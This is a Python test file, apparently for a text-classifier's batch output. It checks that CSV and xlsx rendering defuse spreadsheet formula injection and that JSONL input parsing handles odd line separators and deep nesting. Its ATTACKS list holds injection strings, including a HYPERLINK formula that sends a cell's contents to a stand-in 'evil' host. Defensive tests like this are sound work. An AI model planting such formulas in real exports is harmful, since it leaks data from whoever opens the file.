"""Outputs that cannot attack their readers and inputs no character can break: formula
injection in the spreadsheet formats, control characters in xlsx, JSONL split on "\\n"
alone, nesting too deep to parse. The attack strings are the review's, literally."""
from __future__ import annotations

import csv
import json

import pytest
from openpyxl import load_workbook

from classifier.batch.render import render
from classifier.jobs.inputs import BadInput, json_lines, read_requests
from classifier.taxonomy import taxonomy_from_dict

TREE = taxonomy_from_dict({"name": "R", "children": [{"name": "A", "children": [{"name": "B"}]}]})
ATTACKS = ['=HYPERLINK("https://evil/?"&B2,"x")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx"]


def results_with(texts: list[str]) -> tuple[dict, dict]:
    results = {row: {"text": text, "alerts": {"has_alerts": True, "alerts": [
        {"excerpt": text, "reasoning": "", "alert_type": "fraud", "severity": "high"}]}}
        for row, text in enumerate(texts, start=1)}
    inputs = {row: {"=cmd": text, "text": text} for row, text in enumerate(texts, start=1)}
    return results, inputs


def test_csv_cells_that_a_spreadsheet_would_evaluate_start_with_a_quote(tmp_path):
    results, inputs = results_with([*ATTACKS, "plain text", "a = b"])
    render(results, tmp_path / "o.csv", "csv", TREE, inputs)
    with (tmp_path / "o.csv").open(newline="") as handle:
        header, *rows = list(csv.reader(handle))
    assert "'=cmd" in header
    for row, attack in zip(rows, ATTACKS):
        assert f"'{attack}" in row, "the input column, quoted"
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
    assert rows[-2][2] == "plain text" and rows[-1][2] == "a = b", "ordinary text untouched"


def test_xlsx_keeps_the_text_as_text_never_a_formula(tmp_path):
    results, inputs = results_with(ATTACKS)
    render(results, tmp_path / "o.xlsx", "xlsx", TREE, inputs)
    sheet = load_workbook(tmp_path / "o.xlsx").active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not any(cell.data_type == "f" for cell in cells)
    assert [c.value for c in sheet[2]][1] == ATTACKS[0], "the text itself, typed as a string"


def test_xlsx_accepts_every_control_character(tmp_path):
    texts = ["".join(map(chr, range(1, 32))) + "kept", "bell\x07 and vertical tab\x0b"]
    results, inputs = results_with(texts)
    render(results, tmp_path / "o.xlsx", "xlsx", TREE, inputs)
    sheet = load_workbook(tmp_path / "o.xlsx").active
    kept = [c.value for c in sheet[2]][1].replace("\r", "\n")  # XML reads a carriage return back as a line feed
    assert kept == "\t\n\nkept" and [c.value for c in sheet[3]][1] == "bell and vertical tab"


def request(custom_id: str, text: str) -> str:
    body = {"texts": [text]}
    return json.dumps({"custom_id": custom_id, "method": "POST", "url": "/v1/classify", "body": body},
                      ensure_ascii=False)


def test_jsonl_splits_on_newline_only(tmp_path):
    texts = ["line\u2028separator", "para\u2029graph", "next\x85line", "form\x0cfeed", "vertical\x0btab", "file\x1csep"]
    path = tmp_path / "in.jsonl"
    path.write_text("\r\n".join(request(f"r{k}", t) for k, t in enumerate(texts)) + "\n", encoding="utf-8")
    lines = read_requests(path, "in.jsonl", {}, lambda body: None)
    assert [line.body["texts"][0] for line in lines] == texts
    assert json_lines("a\u2028b\nc\r\nd") == ["a\u2028b", "c", "d"]


def test_a_line_nested_too_deeply_is_refused_by_number(tmp_path):
    path = tmp_path / "deep.jsonl"
    path.write_text(request("ok", "fine") + "\n" + "[" * 200_000 + "]" * 200_000 + "\n", encoding="utf-8")
    with pytest.raises(BadInput) as caught:
        read_requests(path, "deep.jsonl", {}, lambda body: None)
    assert [e["message"][:30] for e in caught.value.errors] == ["line 2 is nested too deeply to"]
